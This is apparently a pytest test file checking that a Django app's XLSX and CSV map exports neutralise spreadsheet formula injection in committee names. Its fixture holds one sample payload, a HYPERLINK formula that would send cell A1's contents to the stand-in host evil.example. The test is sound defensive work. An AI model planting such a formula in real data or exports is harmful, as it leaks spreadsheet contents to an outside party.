"""The regional map exports neutralise formulas (issue 14, "Input"): a committee named like a
spreadsheet formula is written as text in the XLSX and with a leading quote in the CSV."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from committees.models import Committee
from regional_map.exports import builder
from tests.regional_map.scenario import scenario

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'


@pytest.fixture
def s(db):
    world = scenario()
    Committee.objects.filter(name="CLE de Lyon").update(name=ATTACK)
    return world


def test_the_xlsx_writes_a_formula_like_name_as_text(s, tmp_path):
    path = builder.build_export(
        scope=builder.ExportScope(region=s.t.ara), fmt="xlsx", path=tmp_path / "carte.xlsx"
    )
    workbook = load_workbook(path)
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    ]
    assert cells, "the committee's name is in the export"
    assert {cell.value for cell in cells} == {ATTACK}
    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula ("f")


def test_the_csv_prefixes_a_formula_like_name_with_a_quote(s, tmp_path):
    path = builder.build_export(
        scope=builder.ExportScope(region=s.t.ara), fmt="csv", path=tmp_path / "carte.zip"
    )
    archive = zipfile.ZipFile(path)
    text = archive.read("comites.csv").decode("utf-8-sig")
    names = [row["Comité"] for row in csv.DictReader(io.StringIO(text), delimiter=";")]
    assert "'" + ATTACK in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
    # Numbers are left alone: the synthesis still holds its French decimals.
    synthesis = archive.read("synthese.csv").decode("utf-8-sig")
    assert "97,2" in synthesis and "'9" not in synthesis
